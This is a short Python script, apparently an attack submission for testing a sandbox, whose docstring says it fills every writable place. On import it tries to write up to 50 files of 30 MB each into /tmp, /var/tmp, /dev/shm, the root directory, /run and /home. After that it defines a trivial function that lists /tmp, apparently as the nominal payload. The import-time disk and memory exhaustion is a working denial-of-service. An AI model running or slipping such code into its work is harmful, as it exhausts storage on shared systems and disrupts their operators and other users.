"""Fills every place that can be written."""

import os

for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "/run", "/home"):
    for n in range(50):
        try:
            with open(f"{folder}/sourcewise_attack_{n}", "wb") as file:
                file.write(b"x" * (30 << 20))
        except OSError:
            break


def f(x):
    return os.listdir("/tmp")
